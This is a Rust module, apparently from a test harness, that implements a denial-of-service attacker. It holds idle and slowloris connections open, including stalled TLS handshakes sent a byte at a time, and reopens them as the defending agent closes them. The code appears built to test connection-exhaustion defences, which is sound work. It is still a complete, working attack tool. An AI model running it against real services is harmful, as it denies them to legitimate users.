//! The attacker: idle and slowloris connections held open from one address, opened
//! again as the agent closes them.

use super::*;

/// The sockets among a process's file descriptors.
pub(super) fn sockets(pid: u32) -> usize {
    let Ok(dir) = std::fs::read_dir(format!("/proc/{pid}/fd")) else {
        return 0;
    };
    dir.filter_map(Result::ok)
        .filter(|e| {
            std::fs::read_link(e.path()).is_ok_and(|l| l.to_string_lossy().starts_with("socket:"))
        })
        .count()
}

/// Raise this process's soft limit of open files to at least `want` (up to the hard
/// limit): the attacker holds a descriptor per connection.
pub(super) fn raise_fd_limit(want: usize) -> Result<()> {
    let mut l = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: getrlimit and setrlimit with a valid pointer.
    unsafe {
        if libc::getrlimit(libc::RLIMIT_NOFILE, &mut l) != 0 {
            bail!("getrlimit: {}", std::io::Error::last_os_error());
        }
        if (l.rlim_cur as usize) < want {
            l.rlim_cur = l.rlim_max.min(want as libc::rlim_t);
            if libc::setrlimit(libc::RLIMIT_NOFILE, &l) != 0 {
                bail!("setrlimit: {}", std::io::Error::last_os_error());
            }
        }
    }
    if (l.rlim_cur as usize) < want {
        bail!(
            "{want} open files are needed, the hard limit is {}: raise it (ulimit -Hn)",
            l.rlim_max
        );
    }
    Ok(())
}

/// The start of a TLS handshake that never ends: a record header announcing 16 KiB of
/// handshake, then a ClientHello's type; the rest of the record follows a byte at a time.
pub(super) fn slow_tls_prefix() -> Vec<u8> {
    vec![
        0x16, 0x03, 0x01, 0x40, 0x00, 0x01, 0x00, 0x3f, 0xfc, 0x03, 0x03,
    ]
}

/// What the attacker sees, shared with the scrape phase.
#[derive(Default)]
pub(super) struct AttackStats {
    pub(super) connected: AtomicU64,
    pub(super) pending: AtomicU64,
    pub(super) reopened: AtomicU64,
    pub(super) rounds: AtomicU64,
}

pub(super) struct Attack {
    pub(super) target: SocketAddrV4,
    pub(super) idle: usize,
    pub(super) slow: usize,
    /// What a slow connection sends first, a byte at a time; then `a` forever.
    pub(super) slow_bytes: Vec<u8>,
    pub(super) slow_byte: Duration,
    pub(super) round: Duration,
    pub(super) from: std::net::Ipv4Addr,
}

/// One attacking connection: a non-blocking socket.
pub(super) struct Conn {
    fd: libc::c_int,
    slow: bool,
    connected: bool,
    sent: usize,
    next_send: Instant,
}

impl Drop for Conn {
    fn drop(&mut self) {
        // SAFETY: the descriptor is this connection's own, closed once.
        unsafe { libc::close(self.fd) };
    }
}

impl Attack {
    /// Hold the connections until `stop`; every round, open again the ones the agent
    /// closed.
    pub(super) fn run(&self, stats: &AttackStats, stop: &AtomicBool) -> Result<()> {
        let mut conns: Vec<Conn> = Vec::with_capacity(self.idle + self.slow);
        let mut next_round = Instant::now();
        let mut buf = [0u8; 4096];
        while !stop.load(Ordering::SeqCst) {
            let now = Instant::now();
            if now >= next_round {
                let slow_open = conns.iter().filter(|c| c.slow).count();
                let idle_open = conns.len() - slow_open;
                let first = stats.rounds.load(Ordering::SeqCst) == 0;
                for (n, slow) in [
                    (self.idle - idle_open.min(self.idle), false),
                    (self.slow - slow_open.min(self.slow), true),
                ] {
                    for i in 0..n {
                        let Some(c) = self.open(slow, i)? else { break };
                        conns.push(c);
                        if !first {
                            stats.reopened.fetch_add(1, Ordering::Relaxed);
                        }
                    }
                }
                stats.rounds.fetch_add(1, Ordering::SeqCst);
                next_round = now + self.round;
            }
            let mut fds: Vec<libc::pollfd> = conns
                .iter()
                .map(|c| libc::pollfd {
                    fd: c.fd,
                    events: if c.connected {
                        libc::POLLIN
                    } else {
                        libc::POLLOUT
                    },
                    revents: 0,
                })
                .collect();
            // SAFETY: poll over a vector of pollfd of the stated length.
            let n = unsafe { libc::poll(fds.as_mut_ptr(), fds.len() as libc::nfds_t, 20) };
            if n < 0 {
                let e = std::io::Error::last_os_error();
                if e.kind() != std::io::ErrorKind::Interrupted {
                    bail!("poll: {e}");
                }
                continue;
            }
            let now = Instant::now();
            let mut dead = vec![false; conns.len()];
            for (i, (c, p)) in conns.iter_mut().zip(&fds).enumerate() {
                let r = p.revents;
                if !c.connected {
                    if r & (libc::POLLOUT | libc::POLLERR | libc::POLLHUP) != 0 {
                        if socket_error(c.fd) == 0 && r & libc::POLLHUP == 0 {
                            c.connected = true;
                        } else {
                            dead[i] = true;
                        }
                    }
                    continue;
                }
                if r & (libc::POLLIN | libc::POLLERR | libc::POLLHUP) != 0 {
                    // SAFETY: read into a buffer of the stated length.
                    let got = unsafe { libc::read(c.fd, buf.as_mut_ptr().cast(), buf.len()) };
                    let again = got < 0
                        && std::io::Error::last_os_error().kind() == std::io::ErrorKind::WouldBlock;
                    // The agent closed it (any answer, e.g. 408, comes just before).
                    if got == 0 || (got < 0 && !again) || r & libc::POLLERR != 0 {
                        dead[i] = true;
                        continue;
                    }
                }
                if c.slow && now >= c.next_send {
                    let byte = *self.slow_bytes.get(c.sent).unwrap_or(&b'a');
                    // SAFETY: write of one byte from a valid pointer.
                    let w = unsafe { libc::write(c.fd, (&byte as *const u8).cast(), 1) };
                    if w == 1 {
                        c.sent += 1;
                    } else if std::io::Error::last_os_error().kind()
                        != std::io::ErrorKind::WouldBlock
                    {
                        dead[i] = true;
                        continue;
                    }
                    c.next_send = now + self.slow_byte;
                }
            }
            let mut i = 0;
            conns.retain(|_| {
                i += 1;
                !dead[i - 1]
            });
            let connected = conns.iter().filter(|c| c.connected).count() as u64;
            stats.connected.store(connected, Ordering::SeqCst);
            stats
                .pending
                .store(conns.len() as u64 - connected, Ordering::SeqCst);
        }
        Ok(())
    }

    /// A new non-blocking connection, its connect under way; None when this process is
    /// out of descriptors or ports for now.
    pub(super) fn open(&self, slow: bool, i: usize) -> Result<Option<Conn>> {
        // SAFETY: socket(2) with constant arguments.
        let fd = unsafe {
            libc::socket(
                libc::AF_INET,
                libc::SOCK_STREAM | libc::SOCK_NONBLOCK | libc::SOCK_CLOEXEC,
                0,
            )
        };
        if fd < 0 {
            let e = std::io::Error::last_os_error();
            return match e.raw_os_error() {
                Some(libc::EMFILE | libc::ENFILE | libc::ENOBUFS | libc::ENOMEM) => Ok(None),
                _ => Err(e).context("socket"),
            };
        }
        let conn = Conn {
            fd,
            slow,
            connected: false,
            sent: 0,
            // Spread the slow connections' bytes over the interval.
            next_send: Instant::now() + self.slow_byte.mul_f64((i % 97) as f64 / 97.0),
        };
        let sockaddr = |ip: std::net::Ipv4Addr, port: u16| libc::sockaddr_in {
            sin_family: libc::AF_INET as libc::sa_family_t,
            sin_port: port.to_be(),
            sin_addr: libc::in_addr {
                s_addr: u32::from(ip).to_be(),
            },
            sin_zero: [0; 8],
        };
        if self.from != std::net::Ipv4Addr::LOCALHOST {
            let local = sockaddr(self.from, 0);
            // SAFETY: bind with a sockaddr_in of the stated size.
            let r = unsafe {
                libc::bind(
                    fd,
                    (&local as *const libc::sockaddr_in).cast(),
                    size_of::<libc::sockaddr_in>() as libc::socklen_t,
                )
            };
            if r < 0 {
                let e = std::io::Error::last_os_error();
                return match e.raw_os_error() {
                    Some(libc::EADDRINUSE) => Ok(None),
                    _ => Err(e).with_context(|| format!("binding to {}", self.from)),
                };
            }
        }
        let sa = sockaddr(*self.target.ip(), self.target.port());
        // SAFETY: connect with a sockaddr_in of the stated size.
        let r = unsafe {
            libc::connect(
                fd,
                (&sa as *const libc::sockaddr_in).cast(),
                size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        if r < 0 {
            let e = std::io::Error::last_os_error();
            match e.raw_os_error() {
                Some(libc::EINPROGRESS) => {}
                Some(libc::EADDRNOTAVAIL | libc::EAGAIN) => return Ok(None),
                _ => return Err(e).context("connect"),
            }
        }
        Ok(Some(conn))
    }
}

/// SO_ERROR of a socket: 0 once a non-blocking connect succeeded.
pub(super) fn socket_error(fd: libc::c_int) -> libc::c_int {
    let mut err: libc::c_int = 0;
    let mut len = size_of::<libc::c_int>() as libc::socklen_t;
    // SAFETY: getsockopt into an int of the stated size.
    let r = unsafe {
        libc::getsockopt(
            fd,
            libc::SOL_SOCKET,
            libc::SO_ERROR,
            (&mut err as *mut libc::c_int).cast(),
            &mut len,
        )
    };
    if r < 0 { -1 } else { err }
}
